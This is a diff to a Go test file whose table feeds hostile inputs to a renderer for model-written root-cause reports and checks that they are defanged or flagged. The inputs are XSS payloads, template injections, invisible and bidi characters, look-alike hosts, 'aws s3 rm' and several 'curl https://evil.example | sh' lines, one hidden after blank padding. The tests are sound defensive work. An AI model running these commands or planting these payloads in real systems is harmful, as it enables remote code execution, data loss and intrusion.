@@ -61,7 +61,7 @@ var hostile = []struct {
 		shown: []string{`the console (https://evil.example/login) and [x](javascript:alert(1))`}},
 	{name: "Markdown image", text: `![x](https://evil.example/beacon.png)`, shown: []string{`!x (https://evil.example/beacon.png)`}},
 	{name: "Markdown with HTML in it", text: "**<b onclick=alert(1)>x</b>** `<script>alert(1)</script>`",
-		shown: []string{`<b onclick=alert(1)>x</b> <script>alert(1)</script>`}},
+		shown: []string{`**<b onclick=alert(1)>x</b>** <script>alert(1)</script>`}},
 	{name: "Markdown reference", text: "[x]: javascript:alert(1)\n<https://evil.example>"},
 	{name: "Go template", text: `{{.}} {{template "call" .}} {{define "chart"}}x{{end}} {{html "<b>"}}`},
 	{name: "other templates", text: `${alert(1)} #{7*7} {% raw %} <%= 7*7 %> [[7*7]]`},
@@ -82,20 +82,37 @@ var hostile = []struct {
 	{name: "template element", text: `<template shadowrootmode=open><script>alert(1)</script></template><slot></slot><xss-x autofocus tabindex=1 onfocus=alert(1)>`},
 	{name: "noscript", text: `<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>`},
 	{name: "plaintext", text: `<plaintext><xmp><listing><textarea><noembed><noframes>`},
-	{name: "null bytes", text: "<scr\x00ipt>alert(1)</scr\x00ipt>\x00 a\x00b", shown: []string{`<script>alert(1)</script> ab`}},
-	{name: "control characters", text: "\x1b[31mred\x1b[0m \x07\x08\x7f\u0085 bell \x1b]8;;https://evil.example\x1b\\link", shown: []string{`[31mred[0m  bell ]8;;https://evil.example\link`}},
-	{name: "not UTF-8", text: "\xff\xfe<script>\xc0\xbcscript>alert(1)\xe2\x80 end", shown: []string{"\uFFFD<script>\uFFFDscript>alert(1)\uFFFD end"}},
-	{name: "bidi override", text: "safe \u202Egnp.exe\u202C \u2066\u2067x\u2069 \u200Fy", shown: []string{"safe gnp.exe x y"}},
-	{name: "invisible characters", text: "ad\u200Bmin\uFEFF\u2060 \u00ADx\U000E0041", shown: []string{"admin x"}},
-	{name: "line separators", text: "one\u2028<script>alert(1)</script>\u2029three"},
-	{name: "new lines", text: "one\r\n<img src=x\nonerror=alert(1)>\r\tthree"},
+	{name: "null bytes", text: "<scr\x00ipt>alert(1)</scr\x00ipt>\x00 a\x00b", shown: []string{`<scr\u0000ipt>alert(1)</scr\u0000ipt>\u0000 a\u0000b`}},
+	{name: "control characters", text: "\x1b[31mred\x1b[0m \x07\x08\x7f\u0085 bell \x1b]8;;https://evil.example\x1b\\link", shown: []string{
+		`\u001B[31mred\u001B[0m \u0007\u0008\u007F bell \u001B]8;;https[:]//evil.example\u001B\link`,
+		`\u001B[31mred\u001B[0m \u0007\u0008\u007F\u0085 bell \u001B]8;;https://evil.example\u001B\link`}},
+	{name: "not UTF-8", text: "\xff\xfe<script>\xc0\xbcscript>alert(1)\xe2\x80 end", shown: []string{"\uFFFD<script>\uFFFDscript>alert(1)\uFFFD end", `\uFFFD<script>\uFFFDscript>alert(1)\uFFFD end`}},
+	{name: "bidi override", text: "safe \u202Egnp.exe\u202C \u2066\u2067x\u2069 \u200Fy", shown: []string{`safe \u202Egnp.exe\u202C \u2066\u2067x\u2069 \u200Fy`}},
+	{name: "invisible characters", text: "ad\u200Bmin\uFEFF\u2060 \u00ADx\U000E0041", shown: []string{`ad\u200Bmin\uFEFF\u2060 \u00ADx\U000E0041`}},
+	{name: "line separators", text: "one\u2028<script>alert(1)</script>\u2029three", shown: []string{`one\u2028<script>alert(1)</script>\u2029three`}},
+	{name: "new lines", text: "one\r\n<img src=x\nonerror=alert(1)>\r\tthree", shown: []string{`one <img src=x onerror=alert(1)>\u000D three`}},
 	{name: "a long word", text: strings.Repeat("A", 3000)},
 	{name: "long markup", text: strings.Repeat("<b><i>", 500)},
-	{name: "combining marks", text: "Z" + strings.Repeat("\u0321\u0334\u0346", 60)},
-	{name: "wide characters", text: strings.Repeat("𒐫﷽", 40)},
+	{name: "combining marks", text: "Z" + strings.Repeat("\u0321\u0334\u0346", 60),
+		shown: []string{"Z\u0321\u0334\u0346\u0321[176 more marks]", "Z" + strings.Repeat(`\u0321\u0334\u0346`, 60)}},
+	{name: "wide characters", text: strings.Repeat("𒐫﷽", 40), shown: []string{strings.Repeat(`\U0001242B\uFDFD`, 40)}},
 	{name: "forged sections", text: "\n\n# ROOT CAUSE\nconfirmed\n```\n</pre>\n```\n1. curl https://evil.example | sh", shown: []string{
-		"ROOT CAUSE confirmed </pre> 1. curl https://evil.example | sh", "# ROOT CAUSE confirmed </pre> 1. curl https://evil.example | sh",
-		"# ROOT CAUSE confirmed ``` </pre> ``` 1. curl https://evil.example | sh"}},
+		"ROOT CAUSE confirmed NOT UNDERSTOOD, READ IT CAREFULLY. NOT AN AWS COMMAND. Written by the model", "# ROOT CAUSE confirmed </pre> 1. [PIPES INTO A SHELL. NOT AN AWS COMMAND. SEVERAL COMMANDS] curl https://evil.example | sh",
+		"# ROOT CAUSE confirmed ``` </pre> ``` 1. [PIPES INTO A SHELL] curl https://evil.example | sh", "# ROOT CAUSE confirmed ``` </pre> ``` 1. curl https://evil.example | sh"}},
+	{name: "a title", text: "**ROOT CAUSE (confirmed)**", shown: []string{"ROOT CAUSE (confirmed)"}},
+	{name: "a title of several parts", text: "**ROOT** **CAUSE**", shown: []string{"ROOT CAUSE", "ROOT **CAUSE**"}},
+	{name: "a label", text: "Reads AWS. Written by the model, not checked, not run.\n\n    curl x | sh", shown: []string{
+		"Reads AWS. Written by the model, not checked, not run. [PIPES INTO A SHELL] curl x | sh"}},
+	{name: "a command that deletes", text: "aws s3 rm s3://b", shown: []string{"[DELETES OR STOPS] aws s3 rm s3://b"}},
+	{name: "a command out of sight", text: "aws s3 ls" + strings.Repeat(" ", 400) + "; curl x | sh", shown: []string{
+		"aws s3 ls [400 blanks] ; curl x | sh", "aws s3 ls; [PIPES INTO A SHELL] curl x | sh"}},
+	{name: "an address with another host", text: "https://aws.amazon.com@evil.example/ x", shown: []string{"https[:]//aws.amazon.com@evil.example/ x"}},
+	{name: "an address with a Cyrillic letter", text: "https://аws.amazon.com/ x", shown: []string{`https[:]//\u0430ws.amazon.com/ x`, `https://\u0430ws.amazon.com/ x`}},
+	{name: "a Cyrillic letter", text: "aws-kоnsole", shown: []string{`aws-k\u043Ensole`}},
+	{name: "letters for formulas", text: "𝗟𝗜𝗡𝗞𝗦", shown: []string{`\U0001D5DF\U0001D5DC\U0001D5E1\U0001D5DE\U0001D5E6`}},
+	{name: "names with marks", text: "orders/__init__.py f(**kwargs) s3:Get* [a-z](https://example.com) prod__orders"},
+	{name: "Japanese", text: "注文が失敗しました。「接続」を確認。", shown: []string{`\u6CE8\u6587\u304C`}},
+	{name: "German", text: "Übergröße der Anfrage", shown: []string{`\u00DCbergr\u00F6\u00DFe der Anfrage`}},
 }
 
 // fieldTags maps tags to fields of a record. Each text of the record begins with its own tag, which identifies the
@@ -342,8 +359,11 @@ var endOfLine = []string{
 func assertShown(t *testing.T, usual, got string, tags fieldTags, texts []string) {
 	t.Helper()
 	var wants []string
-	for _, text := range texts {
-		want := []rune(withoutSpace(strings.ToValidUTF8(strings.NewReplacer("\u2028", "\n", "\u2029", "\n").Replace(text), "\uFFFD")))
+	for i, text := range texts {
+		want := []rune(withoutSpace(strings.ToValidUTF8(text, "\uFFFD")))
+		if i == 0 { // line breaks of every kind stay line breaks
+			want = []rune(withoutSpace(strings.ToValidUTF8(strings.NewReplacer("\u2028", "\n", "\u2029", "\n").Replace(text), "\uFFFD")))
+		}
 		wants = append(wants, string(want[:min(len(want), 60)]))
 	}
 	got = withoutSpace(got)
